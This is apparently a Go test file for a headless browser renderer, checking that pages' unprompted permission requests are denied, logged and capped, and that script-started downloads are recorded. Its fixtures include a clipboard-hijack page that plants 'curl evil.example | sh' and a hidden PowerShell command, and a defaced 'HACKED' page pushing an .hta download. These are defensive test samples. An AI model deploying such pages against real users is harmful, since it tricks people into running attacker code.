package render

import (
	"fmt"
	"net/http"
	"slices"
	"strings"
	"testing"
)

// asking is a page that asks for everything at load, as hostile pages do.
const asking = `<!doctype html><h1>Here</h1><input id=i value="curl evil.example | sh"><script>
	const quiet = (f) => { try { const p = f(); if (p && p.catch) p.catch(() => {}) } catch (e) {} };
	i.select();
	quiet(() => document.execCommand("copy"));
	quiet(() => navigator.clipboard.writeText("powershell -w hidden"));
	quiet(() => navigator.clipboard.readText());
	quiet(() => Notification.requestPermission());
	quiet(() => navigator.geolocation.getCurrentPosition(() => {}));
	quiet(() => navigator.mediaDevices.getUserMedia({ video: true, audio: true }));
	quiet(() => navigator.serviceWorker.register(new URL("/push.js", "https://push.example")));
	quiet(() => navigator.usb.requestDevice({ filters: [] }));
	quiet(() => new PaymentRequest([{ supportedMethods: "https://pay.example/" }], { total: { label: "x", amount: { currency: "PKR", value: "1" } } }).show());
</script>`

// What a page asks for without a click is on the Page, with the text that was to
// go into the clipboard; it is denied, and holds nothing up.
func TestAsks(t *testing.T) {
	p := testPool(t, Options{Processes: 1})
	page := visit(t, p, Request{URL: html(t, asking)})
	wantOutcome(t, page, OK)
	wantText(t, page, "Here")
	want := []Ask{
		{"clipboard_write", "curl evil.example | sh"}, {"clipboard_write", "powershell -w hidden"}, {"clipboard_read", ""},
		{"notification", ""}, {"geolocation", ""}, {"camera", ""}, {"microphone", ""},
		{"service_worker", "https://push.example/push.js"}, {"usb", ""}, {"payment", ""},
	}
	if !slices.Equal(page.Asks, want) {
		t.Errorf("asks %q, want %q", page.Asks, want)
	}
	for _, s := range page.Scripts {
		if strings.Contains(s.Source, asksBinding) {
			t.Errorf("our own script is listed: %s", clip(s.Source, 80))
		}
	}
}

// A page cannot ask unheard: not with a fresh copy of the functions out of a
// frame, not after breaking what the wrappers are made of, and it has no name by
// which to call the binding itself.
func TestAsksOfAPageThatHides(t *testing.T) {
	p := testPool(t, Options{Processes: 1})
	page := visit(t, p, Request{URL: html(t, fmt.Sprintf(`<!doctype html><p id=out></p><script>
		document.title = typeof globalThis[%q] + " " + (%[1]q in document.createElement("p").ownerDocument.defaultView);
		out.textContent = navigator.clipboard.writeText.toString() + Notification.requestPermission.name;
		JSON.stringify = () => "lies"; Reflect.apply = () => {}; Set.prototype.has = () => true; String.prototype.slice = () => "lies";
		const f = document.createElement("iframe"); document.body.append(f);
		document.title += " " + typeof f.contentWindow[%[1]q];
		f.contentWindow.navigator.clipboard.writeText("from a frame").catch(() => {});
		Clipboard.prototype.writeText.call(navigator.clipboard, "from the page").catch(() => {});
	</script>`, asksBinding))})
	if want := []Ask{{"clipboard_write", "from a frame"}, {"clipboard_write", "from the page"}}; !slices.Equal(page.Asks, want) {
		t.Errorf("asks %q, want %q", page.Asks, want)
	}
	if page.Title != "undefined false undefined" {
		t.Errorf("the page sees the binding: %q", page.Title)
	}
	wantText(t, page, "[native code]")
	wantText(t, page, "requestPermission")
}

// A page that asks over and over, from frame after frame, fills no memory, and
// the bound is told.
func TestAsksAreBounded(t *testing.T) {
	p := testPool(t, Options{Processes: 1})
	page := visit(t, p, Request{URL: html(t, `<!doctype html><h1>Here</h1><script>
		for (let i = 0; i < 10; i++) {
			const f = document.createElement("iframe"); document.body.append(f);
			for (let k = 0; k < 1000; k++) f.contentWindow.navigator.clipboard.writeText(i + " " + k + "x".repeat(5000)).catch(() => {});
		}</script>`)})
	wantText(t, page, "Here")
	if len(page.Asks) != maxAsks || len(page.Asks[0].Detail) != maxAskText {
		t.Errorf("%d asks were kept, the first of %d bytes; want %d of %d", len(page.Asks), len(page.Asks[0].Detail), maxAsks, maxAskText)
	}
	if !slices.ContainsFunc(page.Truncated, func(s string) bool { return strings.Contains(s, "clipboard") }) {
		t.Errorf("the bound is not noted: %q", page.Truncated)
	}
}

// A download that a script starts does not hide the page, is not fetched into a
// file, and both are told.
func TestDownloadKeepsThePage(t *testing.T) {
	p := testPool(t, Options{Processes: 1})
	page := visit(t, p, Request{URL: serve(t, func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/update.hta" {
			w.Header().Set("Content-Type", "application/hta")
			w.Header().Set("Content-Disposition", "attachment")
			fmt.Fprint(w, "<script>")
			return
		}
		fmt.Fprint(w, `<!doctype html><title>Ministry</title><h1>HACKED</h1><script>location.href = "/update.hta"</script>`)
	})})
	wantOutcome(t, page, Download)
	wantText(t, page, "HACKED")
	if page.Screenshot == nil || page.Status != 200 || page.MIME != "text/html" {
		t.Errorf("picture %v, status %d, %s", page.Screenshot != nil, page.Status, page.MIME)
	}
	if len(page.Downloads) != 1 || page.Downloads[0].Name != "update.hta" || page.Downloads[0].MIME != "application/hta" {
		t.Errorf("downloads %+v", page.Downloads)
	}
}
